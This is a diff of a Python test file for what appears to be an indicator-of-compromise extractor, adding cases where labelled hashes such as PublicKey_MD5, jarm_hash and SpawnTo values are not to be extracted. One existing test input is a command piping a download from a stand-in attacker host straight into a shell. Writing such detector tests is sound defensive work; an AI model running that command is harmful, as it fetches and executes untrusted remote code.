@@ -60,6 +60,9 @@ def taken(text: str) -> list[str]:
         ("curl -s http://evil.example/a|sh", ["http://evil.example/a"]),
         ("a.exe: 5f4dcc3b5aa765d61d8327deb882cf99", ["5f4dcc3b5aa765d61d8327deb882cf99"]),
         ("imphash:5f4dcc3b5aa765d61d8327deb882cf99", []),
+        ("PublicKey_MD5 - 5f4dcc3b5aa765d61d8327deb882cf99", []),
+        ("'jarm_hash': '5f4dcc3b5aa765d61d8327deb882cf99'", []),
+        ("SpawnTo - 00000000000000000000000000000000", []),
         ("Imphash - 5f4dcc3b5aa765d61d8327deb882cf99", []),
         ("magnet:?xt=urn:btih:5f4dcc3b5aa765d61d8327deb882cf9912345678", []),
         (
